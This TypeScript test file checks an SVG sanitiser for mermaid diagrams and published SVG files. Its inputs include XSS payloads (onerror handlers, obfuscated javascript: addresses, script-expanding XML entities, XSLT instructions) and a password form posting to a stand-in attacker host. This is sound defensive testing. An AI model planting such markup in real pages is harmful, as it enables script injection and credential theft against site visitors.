/**
 * The SVG schema (pipeline/stages/svg-sanitize.ts): what a drawn diagram
 * keeps when a page embeds it, what an SVG file keeps when it is published,
 * and, as properties, that sanitised markup holds nothing outside the schema
 * however the browser parses it again.
 */
import fs from 'node:fs';
import path from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import fc from 'fast-check';
import { toHtml } from 'hast-util-to-html';
import type { Element, ElementContent, Properties, Root, RootContent } from 'hast';
import {
  judgeSvgFile, parseSvg, sameTree, sanitizedDiagram, sanitizedSvgFile, sanitizeSvgTree, svgSchema, svgScripting,
} from '../../pipeline/stages/svg-sanitize.ts';
import { analyse, generate } from '../../pipeline/build.ts';
import { contentHash } from '../../pipeline/content-hash.ts';
import { configText, effects, root, tree } from '../helpers.ts';

const test = suite('svg-sanitize');

/** What mermaid drew for the HTML-label repro before labels were SVG text: HTML forms and an image in `foreignObject`. */
const drawnWithHtmlLabels = fs.readFileSync(path.join(root, 'tests/fixtures/svg/mermaid-html-labels.svg'), 'utf8');
const diagramId = 'mermaid-6cd778b2398fd75d';

const elements = (tree: Root): Element[] => {
  const found: Element[] = [];
  const visit = (node: Root | RootContent): void => {
    if (node.type === 'element') found.push(node);
    if ('children' in node) node.children.forEach(visit);
  };
  visit(tree);
  return found;
};

test('a diagram with HTML labels keeps their text and loses every form control, image, handler and foreign id', () => {
  assert.match(drawnWithHtmlLabels, /<input type="password">/, 'the fixture is the drawing that published a password field');
  const svg = sanitizedDiagram(drawnWithHtmlLabels, diagramId);
  assert.not.match(svg, /<(?:form|input|button|img|div|span|p)\b/i);
  assert.not.match(svg, /\son[a-z]+=/i);
  assert.not.match(svg, /evil\.example/);
  assert.not.match(svg, /ontwikkelaarsportaal/);
  const tree = parseSvg(svg);
  for (const element of elements(tree)) {
    const id = element.properties['id'];
    if (id !== undefined) assert.ok(String(id).startsWith(diagramId), `id ${String(id)} is the diagram's own`);
    if (element.tagName === 'foreignObject') {
      assert.ok(element.children.every((c) => c.type === 'text' || (c.type === 'element' && c.tagName === 'br')), 'text and line breaks only');
    }
  }
  assert.match(svg, /<foreignObject[^>]*>OK<\/foreignObject>/, 'the button\'s text stays as text');
  assert.match(svg, /regel een<br\/>regel twee/, 'a line break stays');
  // The diagram's own style sheet and markers still find their ids.
  assert.match(svg, new RegExp(`<style>#${diagramId}\\{`));
  assert.match(svg, new RegExp(`marker-end="url\\(#${diagramId}_flowchart-v2-pointEnd\\)"`));
  assert.match(svg, new RegExp(`<marker id="${diagramId}_flowchart-v2-pointEnd"`));
});

/** The repro: a flowchart whose labels are a password form and an image that takes the client's global name. */
const reproSource = [
  'flowchart LR',
  '  A["<form action=\'https://evil.example/s\'><input type=\'password\'><button>OK</button></form>"] --> B',
  '  C["<img id=\'ontwikkelaarsportaal\' src=\'https://evil.example/x.png\'>"] --> D["regel een<br>regel twee"]',
].join('\n');

test('the repro builds with a warning at each label with HTML, and its page holds no form control, handler or outside address', () => {
  assert.is(`mermaid-${contentHash(reproSource, 16)}`, diagramId, 'the fixture was drawn for this source');
  const files = { 'kennisbank/diagram.md': `---\ntitle: Diagram\n---\n\nEen stroom:\n\n\`\`\`mermaid\n${reproSource}\n\`\`\`\n` };
  const generated = generate(analyse(tree(files, configText), 'production'), { ...effects, diagrams: new Map([[contentHash(reproSource, 16), { svg: drawnWithHtmlLabels }]]) }, { render: true });
  assert.equal(generated.problems.map((p) => [p.severity, p.code, p.file, p.line, p.column]), [
    ['warning', 'mermaid-html-label', 'content/kennisbank/diagram.md', 9, 6],
    ['warning', 'mermaid-html-label', 'content/kennisbank/diagram.md', 10, 6],
  ]);
  const page = parseSvg(String(generated.files.find((f) => f.path === 'kennisbank/diagram/index.html')?.data ?? ''));
  const all = elements(page);
  const figure = all.find((e) => e.tagName === 'figure' && String(e.properties['className']).includes('mermaid-diagram'));
  assert.ok(figure, 'the page shows the diagram');
  const drawing = elements({ type: 'root', children: [figure] });
  assert.ok(drawing.some((e) => e.tagName === 'svg' && e.properties['id'] === diagramId), 'the drawing is embedded');
  assert.equal(all.filter((e) => e.tagName === 'form' || (e.tagName === 'input' && e.properties['type'] === 'password')), [], 'no form, no password field');
  assert.equal(drawing.filter((e) => ['form', 'input', 'button', 'img', 'div', 'span', 'p'].includes(e.tagName)).map((e) => e.tagName), []);
  assert.equal(all.filter((e) => e.properties['id'] === 'ontwikkelaarsportaal'), [], 'nothing takes the client\'s global name');
  for (const e of drawing) {
    for (const [name, value] of Object.entries(e.properties)) {
      assert.not.match(name, /^on/i, `${name} on <${e.tagName}>`);
      assert.not.match(String(value), /evil\.example/, `${name} on <${e.tagName}>`);
    }
  }
});

test('ids that do not start with the diagram\'s own id are dropped; its own, and its accessible title, stay', () => {
  const svg = sanitizedDiagram(
    `<svg id="${diagramId}" aria-labelledby="chart-title-${diagramId}"><title id="chart-title-${diagramId}">T</title><g id="actor0"><rect id="${diagramId}-x"/></g><g id="ontwikkelaarsportaal"/><g id="${diagramId}evil"/></svg>`,
    diagramId,
  );
  assert.is(svg, `<svg id="${diagramId}" aria-labelledby="chart-title-${diagramId}"><title id="chart-title-${diagramId}">T</title><g><rect id="${diagramId}-x"/></g><g/><g/></svg>`);
});

test('everything mermaid draws outside a label\'s HTML is kept as drawn, data-type included', () => {
  /** Each element and attribute (with its value) outside `foreignObject`, in document order. */
  const drawing = (svg: string): string[] => {
    const found: string[] = [];
    const visit = (node: Root | RootContent): void => {
      if (node.type !== 'element' && node.type !== 'root') return;
      if (node.type === 'element') found.push(`<${node.tagName} ${JSON.stringify(node.properties)}>`);
      if (node.type === 'element' && node.tagName === 'foreignObject') return;
      node.children.forEach(visit);
    };
    visit(parseSvg(svg));
    return found;
  };
  assert.equal(drawing(sanitizedDiagram(drawnWithHtmlLabels, diagramId)), drawing(drawnWithHtmlLabels));
  assert.match(sanitizedDiagram(`<svg id="${diagramId}"><g data-type="participant" data-et="life-line"/></svg>`, diagramId), /<g data-et="life-line" data-type="participant"\/>|<g data-type="participant" data-et="life-line"\/>/);
});

test('references stay inside the document: href and url() only to #ids, no style sheet that loads', () => {
  const svg = sanitizedDiagram([
    `<svg id="${diagramId}"><style>@import url(https://evil.example/a.css);</style><style>.a{fill:url(#${diagramId}-g)}</style>`,
    '<a href="https://evil.example/"><text>link</text></a><a href="#top"><text>top</text></a><a href="/kennisbank"><text>site</text></a>',
    '<a href="//evil.example/"><text>a</text></a><a href="/\\evil.example/"><text>b</text></a><a href="/&#9;/evil.example/"><text>c</text></a><use href="/assets/x.svg#a"/>',
    '<use xlink:href="https://evil.example/s.svg#x"/><use href="#x"/>',
    '<rect fill="url(https://evil.example/p.svg#p)" stroke="url(#ok)" style="fill: url( \'https://evil.example/x\' )"/>',
    '<rect style="fill: u\\72 l(https://evil.example/x)"/><rect style="background-image: image-set(\'https://evil.example/x\' 1x)"/>',
    '<image href="https://evil.example/x.png"/><image href="data:image/png;base64,iVBORw0KGgo="/><image href="data:image/svg+xml;base64,PHN2Zy8+"/>',
    '<animate attributeName="href" to="#x"/><set attributeName="fill" to="red"/></svg>',
  ].join(''), diagramId);
  assert.not.match(svg, /evil\.example|@import|image-set|\\72/);
  assert.match(svg, new RegExp(`<style>\\.a\\{fill:url\\(#${diagramId}-g\\)\\}</style>`));
  assert.match(svg, /<a href="#top">/);
  assert.match(svg, /<a href="\/kennisbank">/, 'a link to a page of the site stays');
  assert.match(svg, /<use href="#x"\/>/);
  assert.match(svg, /<rect stroke="url\(#ok\)"\/>/);
  assert.match(svg, /<image href="data:image\/png;base64,iVBORw0KGgo="\/>/);
  assert.not.match(svg, /svg\+xml/);
  assert.match(svg, /<animate to="#x"\/><set attributeName="fill" to="red"\/>/);
});

test('scripting is found wherever it hides: elements with a prefix, handlers, script addresses split by controls', () => {
  assert.equal(svgScripting(parseSvg('<svg><rect width="1"/><a href="#x"><text>x</text></a></svg>')), []);
  assert.equal(svgScripting(parseSvg('<svg onload="alert(1)"><script>alert(1)</script></svg>')), ['het attribuut onload (een event handler)', 'een <script>-element']);
  assert.equal(svgScripting(parseSvg('<svg><x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script></svg>')), ['een <script>-element']);
  assert.equal(svgScripting(parseSvg('<svg><a xlink:href="java&#x0A;script:alert(1)"><text>x</text></a></svg>')), ['een javascript:-adres in xlink:href']);
  assert.equal(svgScripting(parseSvg('<svg><animate attributeName="href" values="#a;javascript:alert(1)"/></svg>')), ['een javascript:-adres in values']);
  assert.equal(svgScripting(parseSvg('<svg><set onbegin="alert(1)"/></svg>')), ['het attribuut onbegin (een event handler)']);
});

test('a clean SVG file is published as written', () => {
  const clean = '<?xml version="1.0" encoding="UTF-8"?>\n<!-- getekend met de hand -->\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" role="img" aria-labelledby="t">\n  <title id="t">Vierkant &amp; cirkel</title>\n  <defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>\n  <rect width="10" height="10" fill="url(#g)" style="stroke: #000; stroke-width: 1px"/>\n  <use xlink:href="#t"/>\n  <text x="1" y="5"><![CDATA[a < b]]></text>\n</svg>\n';
  assert.equal(judgeSvgFile(clean), { scripting: [], sanitized: null });
});

test('every SVG file of our own content is clean, so it is published byte for byte', () => {
  const dir = path.join(root, 'content');
  const files = fs.readdirSync(dir, { recursive: true }).map(String).filter((f) => f.toLowerCase().endsWith('.svg'));
  assert.ok(files.length > 0);
  for (const file of files) assert.equal(judgeSvgFile(fs.readFileSync(path.join(dir, file), 'utf8')), { scripting: [], sanitized: null }, file);
});

test('a file that XML reads differently from HTML is written out again, so what is published is what was judged', () => {
  const cases: Array<[string, RegExp]> = [
    // An internal entity: XML expands it into a script element, HTML sees text.
    ['<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>', /<!DOCTYPE|<!ENTITY|<script/],
    // Raw text in HTML, a script element in XML.
    ['<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><textarea><script>alert(1)</script></textarea></foreignObject></svg>', /textarea|<script/],
    // A style sheet processing instruction: an XSLT transform in XML, a comment in HTML (and a harmless comment when written out).
    ['<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>', /<\?/],
    // Another namespace: the elements would be XHTML in XML.
    ['<svg xmlns="http://www.w3.org/1999/xhtml"><rect/></svg>', /xhtml/],
    ['<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:iframe src="https://evil.example/"/></svg>', /xhtml|iframe|evil/],
    // Another encoding, another base for addresses.
    ['<?xml version="1.0" encoding="UTF-16"?><svg xmlns="http://www.w3.org/2000/svg"/>', /<\?xml/],
    ['<svg xmlns="http://www.w3.org/2000/svg" xml:base="https://evil.example/"><use href="#a"/></svg>', /evil/],
  ];
  for (const [text, forbidden] of cases) {
    const { sanitized } = judgeSvgFile(text);
    assert.ok(sanitized !== null, text);
    assert.not.match(sanitized, forbidden, text);
  }
  assert.is(judgeSvgFile(cases[0]?.[0] ?? '').sanitized, '<svg xmlns="http://www.w3.org/2000/svg">&#x26;x;</svg>');
  assert.is(judgeSvgFile(cases[1]?.[0] ?? '').sanitized, '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject/></svg>');
});

test('a file written out again is well-formed XML: empty elements and line breaks close themselves', () => {
  const svg = sanitizedSvgFile('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>a<br>b<p>c</p></foreignObject><path d="M0 0" onclick="x()"></path></svg>');
  assert.is(svg, '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>a<br/>bc</foreignObject><path d="M0 0"/></svg>');
});

// ---------------------------------------------------------------------------
// Properties: random SVG-ish markup, sanitised, parsed again as the browser
// parses the page, holds nothing outside the schema.

const schema = svgSchema({ ids: new RegExp(`^(?:chart-(?:title|desc)-)?${diagramId}(?:[-_][\\s\\S]*)?$`) });
const allowedTags = new Set(schema.tagNames ?? []);
const textOnly = new Set(['foreignObject', 'title', 'desc']);

/** Everything in a parsed tree that the schema does not allow; empty when the tree is clean. */
function outsideSchema(tree: Root): string[] {
  const found: string[] = [];
  for (const child of tree.children) {
    if (child.type === 'element' && child.tagName !== 'svg') found.push(`<${child.tagName}> at the top level`);
    if (child.type === 'text' && child.value.trim() !== '') found.push('text at the top level');
  }
  const visit = (node: Root | RootContent, parent: string | null): void => {
    if (node.type === 'element') {
      if (!allowedTags.has(node.tagName)) found.push(`<${node.tagName}>`);
      if (node.tagName === 'br' && parent !== 'foreignObject') found.push('<br> outside foreignObject');
      if (parent && textOnly.has(parent) && node.tagName !== 'br') found.push(`<${node.tagName}> in <${parent}>`);
      for (const [name, value] of Object.entries(node.properties)) {
        // What the schema keeps of this one attribute, on this element, is the attribute itself.
        const kept = (sanitize1(node.tagName, { [name]: value }) as Element | undefined)?.properties ?? {};
        if (JSON.stringify(kept[name]) !== JSON.stringify(value)) found.push(`${name}=${JSON.stringify(value)} on <${node.tagName}>`);
        if (/^on/i.test(name)) found.push(`event handler ${name}`);
        const reference = node.tagName === 'a' ? /^#|^\/(?![/\\])[^\\\t\n\r]*$/ : node.tagName === 'image' ? /^#|^data:image\/(?:png|jpeg|gif|webp|avif);/i : /^#/;
        if ((name === 'href' || name === 'xLinkHref') && !reference.test(String(value))) found.push(`${name}=${String(value)} on <${node.tagName}>`);
      }
      if (node.tagName === 'style' && /[<&\\]|@import|url\(\s*(?!['"]?#)/i.test(node.children.map((c) => ('value' in c ? c.value : '')).join(''))) found.push('unsafe style sheet');
    }
    if ('children' in node) for (const child of node.children) visit(child, node.type === 'element' ? node.tagName : null);
  };
  visit(tree, null);
  return found;
}

/** The schema's verdict on one element with these properties, inside an `svg`. */
function sanitize1(tagName: string, properties: Properties): Element | undefined {
  const element: Element = { type: 'element', tagName, properties, children: [] };
  const wrapped: Root = { type: 'root', children: [{ type: 'element', tagName: 'svg', properties: {}, children: [tagName === 'br' ? { type: 'element', tagName: 'foreignObject', properties: {}, children: [element] } : element] }] };
  const svg = sanitizeSvgTree(wrapped, schema).children[0] as Element;
  const inner = svg.children[0] as Element | undefined;
  return tagName === 'br' ? (inner?.children[0] as Element | undefined) : inner;
}

const tagName = fc.constantFrom(
  'svg', 'g', 'rect', 'path', 'text', 'tspan', 'style', 'title', 'desc', 'foreignObject', 'a', 'use', 'image', 'animate', 'set', 'br',
  'div', 'span', 'p', 'b', 'form', 'input', 'button', 'img', 'iframe', 'script', 'textarea', 'template', 'noscript', 'math', 'mglyph',
  'table', 'select', 'object', 'x:script', 'handler', 'feImage', 'marker', 'font',
);
const value = fc.oneof(
  fc.constantFrom('#a', 'https://evil.example/x', 'javascript:alert(1)', ' java\tscript:x', 'url(#a)', 'url(https://evil.example/a)', 'u\\72 l(x)',
    '@import "x"', 'alert(1)', 'red', 'ontwikkelaarsportaal', `${diagramId}-n`, 'data:image/png;base64,AAAA', 'data:text/html,<script>x</script>',
    'http://www.w3.org/2000/svg', 'http://www.w3.org/1999/xhtml', '/kennisbank', '//evil.example/', '/\\evil.example', '/\t/evil.example', '"><img src=x onerror=alert(1)>', '</style><img src=x onerror=alert(1)>', 'href'),
  fc.string({ maxLength: 12 }),
);
const propertyName = fc.constantFrom(
  'id', 'href', 'xLinkHref', 'onLoad', 'onClick', 'onBegin', 'style', 'fill', 'className', 'xmlns', 'xmlnsXLink', 'xmlBase', 'dataId',
  'attributeName', 'values', 'to', 'name', 'type', 'src', 'action', 'srcDoc', 'width', 'transform', 'ariaLabel', 'role', 'formAction',
);
const text = fc.oneof(
  fc.constantFrom('<script>alert(1)</script>', '</style><img src=x onerror=alert(1)>', ']]>', '<!--', '-->', '&lt;', '&amp;', 'a{fill:url(https://evil.example/x)}', '@import url(x);'),
  fc.string({ maxLength: 16 }),
);
const node: fc.Memo<ElementContent> = fc.memo((depth) => (depth <= 1
  ? fc.oneof(text.map((v): ElementContent => ({ type: 'text', value: v })), fc.string({ maxLength: 8 }).map((v): ElementContent => ({ type: 'comment', value: v })))
  : fc.oneof(
    { weight: 1, arbitrary: text.map((v): ElementContent => ({ type: 'text', value: v })) },
    {
      weight: 3,
      arbitrary: fc.record({
        tagName,
        properties: fc.dictionary(propertyName, value, { maxKeys: 4 }),
        children: fc.array(node(depth - 1), { maxLength: 4 }),
      }).map(({ tagName, properties, children }): ElementContent => ({ type: 'element', tagName, properties, children })),
    },
  )));
const svgIsh = fc.array(node(5), { maxLength: 4 }).map((children): Root => ({
  type: 'root',
  children: [{ type: 'element', tagName: 'svg', properties: { id: diagramId }, children }],
}));

/** Markup written as random tokens: what no tree serialiser would write, but a drawing or a file could hold. */
const tokens = fc.array(fc.constantFrom(
  '<svg>', '</svg>', '<foreignObject>', '</foreignObject>', '<style>', '</style>', '<title>', '</title>', '<desc>', '<math>', '<mglyph>',
  '<![CDATA[', ']]>', '<!--', '-->', '--!>', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<br>', '</br>', '</p>', '<p>',
  '<textarea>', '</textarea>', '<template>', '<noscript>', '<a href="javascript:alert(1)">', '<a href="#x">', '<rect style="fill:url(https://evil.example/x)"/>',
  '<g id="ontwikkelaarsportaal">', '</g>', '<font color=red>', '<table>', '<select>', '"', "'", '>', '<', ' ', 'a', '&amp;', '&', '\n',
), { maxLength: 30 }).map((parts) => parts.join(''));

test('property: a sanitised diagram, parsed again, holds nothing outside the schema, and sanitising it again changes nothing', () => {
  fc.assert(fc.property(fc.oneof(svgIsh.map((tree) => toHtml(tree)), tokens), (markup) => {
    const svg = sanitizedDiagram(markup, diagramId);
    const reparsed = parseSvg(svg);
    assert.equal(outsideSchema(reparsed), [], `${markup}\n→ ${svg}`);
    assert.is(sanitizedDiagram(svg, diagramId), svg, 'idempotent');
  }), { numRuns: 400 });
});

test('property: a published SVG file, parsed again, holds nothing outside the schema or anything that needs scripting', () => {
  fc.assert(fc.property(fc.oneof(svgIsh.map((tree) => toHtml(tree)), tokens), (markup) => {
    const { sanitized } = judgeSvgFile(markup);
    const published = sanitized ?? markup;
    const reparsed = parseSvg(published);
    assert.equal(svgScripting(reparsed), []);
    assert.ok(sameTree(sanitizeSvgTree(reparsed, svgSchema({ ids: null })), reparsed), `${markup}\n→ ${published}`);
  }), { numRuns: 300 });
});

test.run();
